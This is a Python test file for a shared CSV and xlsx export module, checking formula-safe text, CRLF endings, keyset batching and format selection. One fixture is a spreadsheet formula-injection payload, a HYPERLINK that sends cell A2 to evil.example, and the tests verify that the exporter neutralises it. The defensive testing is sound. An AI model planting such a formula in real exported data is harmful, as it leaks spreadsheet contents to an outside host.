"""The shared export mechanism: typed columns → CSV (BOM, RFC 4180, formula-safe) or xlsx (real types, no
formulas), fetched in keyset batches, the format chosen by the ``format`` query parameter."""

import os
import subprocess
import sys
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from fastapi.responses import StreamingResponse

from vru_dev.testing import read_csv, read_xlsx
from vru_shared.exports import (
    Column,
    ExportFormat,
    FormatParam,
    Kind,
    batches_of,
    keyset_batches,
    write_export,
)
from vru_shared.pagination import PageParams

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A2,"Map")'


@dataclass
class Row:
    id: int
    name: str
    amount: Decimal
    count: int
    day: date
    at: datetime


COLUMNS: list[Column[Row]] = [
    Column("id", lambda r: r.id, Kind.NUMBER),
    Column("name", lambda r: r.name),
    Column("amount", lambda r: r.amount, Kind.MONEY),
    Column("count", lambda r: r.count, Kind.NUMBER),
    Column("day", lambda r: r.day, Kind.DATE),
    Column("at", lambda r: r.at, Kind.DATETIME),
]

ROWS = [
    Row(1, HOSTILE, Decimal("1234.5"), -3, date(2026, 12, 3), datetime(2026, 12, 3, 9, 30, tzinfo=UTC)),
    Row(2, 'Chatham, "bus" station – café', Decimal("0"), 0, date(2026, 1, 1), datetime(2026, 1, 1, tzinfo=UTC)),
]


async def content(fmt: ExportFormat, rows: Sequence[Row] = ROWS) -> bytes:
    file = await write_export(COLUMNS, batches_of(rows), fmt=fmt, name="things", record_id=lambda r: r.id)
    response = file.response()
    assert response.headers["content-disposition"] == f'attachment; filename="things.{fmt.value}"'
    body = b""
    async for chunk in response.body_iterator:
        assert isinstance(chunk, bytes)
        body += chunk
    assert file.record_ids == [str(r.id) for r in rows]
    file.file.close()
    return body


async def test_csv_has_a_bom_the_header_and_formula_safe_text() -> None:
    rows = read_csv(await content(ExportFormat.CSV))
    assert rows[0] == ["id", "name", "amount", "count", "day", "at"]
    assert rows[1] == ["1", "'" + HOSTILE, "1234.50", "-3", "2026-12-03", "2026-12-03T09:30:00+00:00"]
    assert rows[2][1] == 'Chatham, "bus" station – café'


async def test_csv_lines_end_in_crlf() -> None:
    assert (await content(ExportFormat.CSV)).count(b"\r\n") == 3


async def test_xlsx_text_is_a_string_never_a_formula_and_numbers_are_numbers() -> None:
    sheet = read_xlsx(await content(ExportFormat.XLSX))
    assert [c.text for c in sheet[0] if c] == ["id", "name", "amount", "count", "day", "at"]
    name = sheet[1][1]
    assert name is not None
    assert name.kind in ("s", "inlineStr")
    assert name.text == HOSTILE
    assert not name.formula
    stored = [(c.kind, c.text) if c else None for c in sheet[1]]
    # numbers are numbers; an Excel date is a number of days (with a date format): 3 December 2026 is 46359
    assert stored[2:5] == [("n", "1234.5"), ("n", "-3"), ("n", "46359")]
    assert not any(c.formula for row in sheet for c in row if c)


async def test_keyset_batches_reads_every_record_once_in_batches() -> None:
    records = list(range(1, 8))
    calls: list[PageParams] = []

    async def fetch(page: PageParams) -> Sequence[int]:
        calls.append(page)
        start = page.after[0] if page.after else 0
        return [r for r in records if r > start][: page.limit + 1]

    seen = [b async for b in keyset_batches(fetch, lambda r: (r,), size=3)]
    assert seen == [[1, 2, 3], [4, 5, 6], [7]]
    assert [c.after for c in calls] == [None, (3,), (6,)]


def _app() -> FastAPI:
    app = FastAPI()

    @app.get("/things/export", response_class=StreamingResponse)
    async def export(fmt: FormatParam = ExportFormat.CSV) -> Any:
        return (await write_export(COLUMNS, batches_of(ROWS), fmt=fmt, name="things")).response()

    return app


@pytest.mark.parametrize(
    ("query", "media_type"),
    [("", "text/csv; charset=utf-8"), ("?format=csv", "text/csv; charset=utf-8"), ("?format=xlsx", "application/vnd.")],
)
async def test_the_format_parameter_chooses(query: str, media_type: str) -> None:
    async with httpx.AsyncClient(transport=httpx.ASGITransport(_app()), base_url="http://t") as client:
        response = await client.get("/things/export" + query)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith(media_type)


async def test_an_unknown_format_is_422() -> None:
    async with httpx.AsyncClient(transport=httpx.ASGITransport(_app()), base_url="http://t") as client:
        response = await client.get("/things/export?format=pdf")
    assert response.status_code == 422


def test_a_service_does_not_load_xlsxwriter_until_it_writes_a_workbook() -> None:
    """xlsxwriter costs a process ~14 MB from its start (issue 17: idle RSS ≤ 100 MB per service): a service that
    imports the exports module (every list with an export route) loads it on its first xlsx export only."""
    code = (
        "import sys, vru_shared.app, vru_shared.exports\n"
        "assert 'xlsxwriter' not in sys.modules, 'xlsxwriter imported at start'\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True, env={**os.environ, "PYTHONWARNINGS": "ignore"})


def test_a_service_does_not_load_httpx_command_line_client() -> None:
    """httpx's command-line client (click, rich, pygments: ~5 MB) is not loaded by a service (issue 17, idle RSS);
    httpx itself works."""
    code = (
        "import sys, vru_shared.app, httpx\n"
        "assert 'rich' not in sys.modules and 'pygments' not in sys.modules, 'httpx loaded its CLI'\n"
        "assert httpx.Client().get\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True, env={**os.environ, "PYTHONWARNINGS": "ignore"})
